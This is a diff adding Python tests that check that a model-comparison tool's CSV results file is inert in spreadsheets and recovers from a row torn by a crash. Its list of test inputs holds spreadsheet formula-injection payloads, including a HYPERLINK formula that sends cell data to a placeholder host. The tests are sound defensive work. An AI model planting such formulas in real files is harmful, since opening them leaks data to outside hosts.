@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import functools
 import math
 from pathlib import Path
@@ -462,3 +463,34 @@ def test_the_first_reason_given_for_a_stop_is_kept(httpserver_ipv4: Any, make: A
             stream.stop()
     assert stream.stopped and stream.reply.done_reason == "stopped"
     assert stream.reply.answer.startswith("The ball")
+
+
+# -- the results file: inert for spreadsheets, read back exactly, a torn row never blocks ------
+
+FORMULAS = ["=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2", "@SUM(A1)", "'引号", "\t=1", "正常"]
+
+
+def test_a_results_file_is_inert_in_a_spreadsheet_and_read_back_exactly(scripted, tmp_path):
+    out = tmp_path / "rows.csv"
+    client = scripted(*[[f] for f in FORMULAS])
+    df = compare("fake:1b", FORMULAS, client=client, out=out, progress=False)
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
+    assert not any(c.startswith(("=", "+", "@", "\t")) for c in cells)  # no formula a sheet runs
+    again = compare("fake:1b", FORMULAS, client=scripted(), out=out, progress=False)
+    assert again["prompt"].tolist() == FORMULAS  # exactly, leading quote and tab included
+    assert again["answer"].tolist() == df["answer"].tolist() == [f.strip() for f in FORMULAS]
+
+
+def test_a_row_torn_by_a_crash_is_run_again_and_the_rest_kept(scripted, tmp_path):
+    out = tmp_path / "rows.csv"
+    compare("fake:1b", ["一", "二", "三"], client=scripted(["甲"], ["乙"], ["丙"]), out=out,
+            progress=False)
+    text = out.read_text(encoding="utf-8")
+    out.write_text(text[: text.rindex("丙") + 1], encoding="utf-8")  # cut inside the last row
+    client = scripted(["丙丙"])
+    with pytest.warns(UserWarning, match="1 row"):
+        df = compare("fake:1b", ["一", "二", "三"], client=client, out=out, progress=False)
+    assert df["answer"].tolist() == ["甲", "乙", "丙丙"]
+    assert len(client.backend.requests) == 1  # only the torn row was asked again
+    assert pd.read_csv(out)["answer"].tolist() == ["甲", "乙", "丙丙"]  # the file is whole again
